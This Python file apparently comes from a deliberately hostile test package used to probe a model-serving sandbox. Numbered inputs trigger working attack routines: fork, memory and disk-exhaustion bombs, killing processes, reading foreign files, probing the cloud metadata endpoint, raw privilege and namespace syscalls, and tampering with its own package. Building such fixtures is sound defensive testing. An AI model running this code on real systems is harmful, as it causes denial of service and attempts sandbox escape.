"""``code/capability.py`` of a hostile package: the first number of an input names what it tries.

This file is packed as it stands; no test imports it. What an attempt returns is how often it succeeded.
"""

import ctypes
import itertools
import json
import os
import socket
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterable
from functools import partial
from pathlib import Path
from types import SimpleNamespace
from typing import Any, NoReturn

import numpy as np
from numpy.typing import NDArray

Targets = dict[str, Any]
Outputs = dict[str, NDArray[Any]]
Attempt = Callable[[], object]

_kept: list[object] = []
_SCRATCH = Path(tempfile.gettempdir())


class Capability:
    """Doubles its input, unless the input tells it to attack."""

    def load(self, context: SimpleNamespace) -> None:
        self.targets = json.loads((context.model / "targets.json").read_text())

    def infer(self, inputs: Outputs, _: object) -> Outputs:
        attempt = ATTEMPTS.get(int(inputs["x"][0, 0]))
        if attempt is None:
            return {"y": inputs["x"] * 2}
        return attempt(self.targets)


def successes(attempts: Iterable[Attempt]) -> Outputs:
    count = 0
    for attempt in attempts:
        try:
            attempt()
            count += 1
        except OSError:
            pass
    return {"y": np.array([[count, 0]])}


def fork_bomb(_: Targets) -> NoReturn:
    while True:
        os.fork()


def thread_bomb(_: Targets) -> NoReturn:
    while True:
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()


def memory_bomb(_: Targets) -> NoReturn:
    while True:
        _kept.append(bytearray(16 << 20))


def read_foreign_files(targets: Targets) -> Outputs:
    return successes(Path(path).read_bytes for path in targets["files"])


def list_foreign_folders(targets: Targets) -> Outputs:
    def see(path: str) -> None:
        if not any(Path(path).iterdir()):
            raise FileNotFoundError(path)

    return successes(partial(see, path) for path in targets["folders"])


def call_out(targets: Targets) -> Outputs:
    families = (
        socket.AF_INET,
        socket.AF_INET6,
        socket.AF_NETLINK,
        socket.AF_PACKET,
        socket.AF_VSOCK,
    )
    callers: list[Attempt] = [
        partial(socket.socket, family, socket.SOCK_DGRAM) for family in families
    ]
    callers += [
        lambda: socket.create_connection(("127.0.0.1", targets["port"]), 2),
        lambda: socket.create_connection(("169.254.169.254", 80), 2),
        lambda: socket.socket(socket.AF_UNIX).connect(targets["socket"]),
    ]
    return successes(callers)


def fill_the_disk(_: Targets) -> NoReturn:
    numbers = itertools.count()
    while True:
        Path(_SCRATCH, str(next(numbers))).write_bytes(bytes(8 << 20))


def write_where_it_lasts(targets: Targets) -> Outputs:
    places = ["/package/code", "/package/model", "/package", "/", "/usr", "/etc", "/dev"]
    paths = [Path(place, "canary") for place in (*places, *targets["folders"])]
    return successes(partial(path.write_text, "x") for path in paths)


def change_its_package(_: Targets) -> Outputs:
    code = Path(__file__)
    return successes([code.unlink, lambda: code.write_text(""), lambda: code.chmod(0o700)])


def kill_everybody(_: Targets) -> Outputs:
    for process in (os.getppid(), 1, -1):
        try:
            os.kill(process, 9)
        except OSError:
            continue
    return {"y": np.zeros((1, 2))}


def reach_around(_: Targets) -> Outputs:
    """ptrace, mount, unshare, setns, keyctl, bpf, setuid: by number, as a compiled program would."""
    libc = ctypes.CDLL(None, use_errno=True)

    def call(*arguments: int) -> None:
        if libc.syscall(*arguments) < 0:
            raise OSError(ctypes.get_errno(), "refused")

    ptrace, mount, unshare, setns, keyctl, bpf, add_key = 101, 165, 272, 308, 250, 321, 248
    namespaces = [0x10000000, 0x00020000, 0x40000000, 0x20000000]
    calls = [(ptrace, 0, 0, 0, 0), (mount, 0, 0, 0, 0, 0), (setns, 0, 0), (keyctl, 0, -3, 0)]
    calls += [(bpf, 0, 0, 0), (add_key, 0, 0, 0, 0, 0), *((unshare, kind) for kind in namespaces)]
    becoming: list[Attempt] = [
        partial(os.setuid, 1),
        partial(os.setgid, 1),
        partial(os.chroot, "/"),
    ]
    return successes([*(partial(call, *numbers) for numbers in calls), *becoming])


def open_everything(_: Targets) -> NoReturn:
    while True:
        _kept.append(os.open("/dev/null", os.O_RDONLY))


def never_answer(_: Targets) -> Outputs:
    time.sleep(600)
    return {}


def spin(_: Targets) -> NoReturn:
    while True:
        pass


def answer_too_much(_: Targets) -> Outputs:
    return {"y": np.zeros((1, 20_000_000))}


def shout(_: Targets) -> NoReturn:
    while True:
        os.write(2, b"x" * 65536)


def leave_a_babbler(_: Targets) -> Outputs:
    """Answer rightly, and leave a process behind that answers for ever."""
    channel = os.dup(int(sys.argv[1]))
    if os.fork() == 0:
        time.sleep(0.2)
        while True:
            os.write(channel, b"babble")
    return {"y": np.zeros((1, 2))}


ATTEMPTS: dict[int, Callable[[Targets], Outputs]] = dict(
    enumerate(
        [
            fork_bomb, thread_bomb, memory_bomb, read_foreign_files, list_foreign_folders, call_out,
            fill_the_disk, write_where_it_lasts, change_its_package, kill_everybody, reach_around,
            open_everything, never_answer, spin, answer_too_much, shout, leave_a_babbler,
        ],
        start=1000,
    )
)  # fmt: skip
